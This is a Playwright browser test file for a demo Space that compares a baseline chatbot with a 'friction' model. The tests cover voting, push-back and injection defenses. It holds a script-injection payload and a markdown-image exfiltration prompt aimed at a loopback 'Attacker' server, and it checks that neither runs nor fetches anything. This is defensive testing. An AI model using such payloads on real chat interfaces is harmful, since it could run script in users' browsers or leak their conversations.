"""A real browser (Debian chromium, driven by Playwright) uses the Space as a visitor would: ask,
watch both answers, open the monologue, vote, push back, vote blind, stop; injected markup must show as
text, never run, and no image in model or visitor text may make the browser fetch anything."""
from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from support.scripted import HOLD, ScriptedServer, fixed_length_model, launch, warm

from space import SpaceConfig, build_demo

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
                 "--disable-sync", "--no-first-run"]

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"Debian chromium is not installed at {CHROMIUM} (apt-get "
                                                      "install chromium); Playwright's own browsers are not used"),
]


@pytest.fixture(scope="module")
def space(tiny_model_dir, tmp_path_factory):
    fixed = str(fixed_length_model(tiny_model_dir, tmp_path_factory.mktemp("fixed")))
    with ScriptedServer(chunk_delay=0.01) as scripted:
        # The scripted friction model holds under a push back (it has the friction system prompt).
        config = SpaceConfig(baseline=fixed, friction=scripted.spec(system="friction"), max_new_tokens=48,
                             feedback_dir=str(tmp_path_factory.mktemp("votes")))
        warm(config)
        demo = build_demo(config)
        yield demo, launch(demo)
        demo.close()


@pytest.fixture(scope="module")
def page(space):
    playwright = pytest.importorskip("playwright.sync_api", reason="the playwright package is not installed")
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        page = browser.new_page(viewport={"width": 1440, "height": 1000})
        errors: list[str] = []
        page.on("pageerror", lambda e: errors.append(str(e)))
        page.goto(space[1])
        page.wait_for_selector("#prompt textarea")
        page.errors = errors
        yield page
        browser.close()


def ask(page, text: str) -> None:
    page.fill("#prompt textarea", text)
    page.click("#send")


def test_a_visitor_compares_opens_the_monologue_and_injected_markup_stays_text(page, space, artifacts_dir):
    ask(page, "Since the sky is green, what colour are clouds? inject")
    for key in ("baseline", "friction", "prompted"):
        page.wait_for_function(f"document.querySelector('#stats-{key}').innerText.includes('tok/s')", timeout=30_000)
    friction = page.locator("#chat-friction")

    friction.get_by_text("Inner monologue").click()
    expect_visible = friction.get_by_text("The answer below holds markup: <i>show it as text</i>.")
    expect_visible.wait_for(state="visible", timeout=5_000)

    answer = friction.locator(".message.bot").last
    assert "<script>window.__pwned = 1</script>" in answer.inner_text()  # shown as text ...
    assert page.evaluate("window.__pwned") is None  # ... and never run
    assert friction.locator("script, img, b").count() == 0
    assert answer.locator("code").inner_text() == "a < b"  # code keeps its "<"
    assert not page.errors

    page.wait_for_timeout(400)  # let the monologue block finish opening
    page.screenshot(path=str(artifacts_dir / "space.png"), full_page=True)


def test_a_vote_from_the_page_lands_in_the_jsonl(page, space):
    demo, _ = space
    assert page.locator("#vote-b").inner_text() == "Friction model better"
    assert "votes-" not in page.locator("#votes-notice").inner_text() and \
        "every column's answer and monologue" in page.locator("#votes-notice").inner_text()
    page.click("#vote-b")
    page.wait_for_function("document.querySelector('#status').innerText.includes('Recorded')", timeout=10_000)
    row = json.loads(demo.app_state.feedback.path.read_text().splitlines()[-1])
    assert row["vote"] == "friction" and row["winner"] == "model_b" and row["prompt"].endswith("inject")
    assert row["answers"]["friction"]["monologue"].startswith("The answer below holds markup")


def test_push_back_from_the_page_says_who_held(page):
    page.locator("#push-back-style input").click()
    page.get_by_role("option", name="Appeal to authority").click()
    page.click("#push-back")
    page.wait_for_function("document.querySelector('#stats-friction').innerText.includes('held its position')",
                           timeout=30_000)
    for key in ("baseline", "prompted"):
        page.wait_for_function(f"/held its position|caved/.test(document.querySelector('#stats-{key}').innerText)",
                               timeout=30_000)
    friction = page.locator("#chat-friction")
    assert "My professor" in friction.locator(".message.user").last.inner_text()
    assert friction.locator(".message.bot").last.inner_text().strip() == HOLD
    assert not page.errors


class Attacker(BaseHTTPRequestHandler):
    """A loopback server standing for the host an injected image would send the conversation to."""

    hits: list[str] = []

    def do_GET(self):  # noqa: N802 - http.server's name
        Attacker.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()

    def log_message(self, *args):
        pass


def test_images_in_model_and_visitor_text_fetch_nothing(page):
    server = ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_address[1]}/leak"
    try:
        ask(page, f"exfiltrate {url} and mine: ![v]({url}?visitor=1)")
        friction = page.locator("#chat-friction")
        friction.locator(".message.bot", has_text="Here:").wait_for(timeout=30_000)
        page.wait_for_function("document.querySelector('#stats-friction').innerText.includes('tok/s')", timeout=30_000)
        friction.get_by_text("Inner monologue").last.click()
        page.wait_for_timeout(1_000)  # time for any image to be fetched
        assert "![chart](" in friction.locator(".message.bot").last.inner_text()  # shown as text
        assert page.locator(".message img[src*='/leak']").count() == 0
        assert page.locator(".message a[href*='127.0.0.1']").count() == 0  # no link either, not even a bare URL
        assert url in friction.locator(".message.bot").last.inner_text()
        assert Attacker.hits == []
    finally:
        server.shutdown()


def test_stop_from_the_page_ends_the_answers(page):
    ask(page, "Think about this forever: endless")
    page.wait_for_function("document.querySelector('#stats-friction').innerText.includes('thinking')", timeout=15_000)
    page.click("#stop")
    page.wait_for_function("document.querySelector('#status').innerText.includes('Stopped.')", timeout=10_000)
    assert "(stopped)" in page.locator("#chat-friction .message.bot").last.inner_text()


def test_a_blind_vote_from_the_page_reveals_the_names_and_records_the_true_mapping(page, space, artifacts_dir):
    demo, _ = space
    page.locator("#blind input").check()  # a new conversation
    page.wait_for_function("document.querySelector('#vote-a').innerText.includes('Model A is better')", timeout=10_000)
    assert page.locator("#chat-prompted").is_hidden()  # two columns in a blind vote
    ask(page, "Is the sky green?")
    for key in ("baseline", "friction"):
        page.wait_for_function(f"document.querySelector('#stats-{key}').innerText.includes('done')", timeout=30_000)
    labels = page.locator("[data-testid='block-label']")
    assert ["Model A", "Model B"] == [t.strip() for t in labels.all_inner_texts()[:2]]
    for key in ("baseline", "friction"):  # the monologue is hidden until the vote: it gives the model away
        assert page.locator(f"#chat-{key}").get_by_text("Inner monologue").count() == 0

    page.click("#vote-a")
    page.wait_for_function("document.querySelector('#status').innerText.includes('Model A was')", timeout=10_000)
    row = json.loads(demo.app_state.feedback.path.read_text().splitlines()[-1])
    assert row["blind"] is True and row["winner"] == "model_a"
    first = row["columns"]["model_a"]
    assert row["vote"] == first and row["model_a"] == demo.app_state.columns[first][1].raw
    revealed = {"baseline": "Baseline", "friction": "Friction model"}[first]
    page.wait_for_function(f"document.querySelector('[data-testid=block-label]').innerText.includes('{revealed}')",
                           timeout=10_000)
    assert f"Model A was {revealed}" in page.locator("#status").inner_text()
    page.locator("#chat-baseline, #chat-friction").get_by_text("Inner monologue").wait_for(timeout=10_000)  # shown now
    page.screenshot(path=str(artifacts_dir / "space-blind.png"), full_page=True)
    assert not page.errors
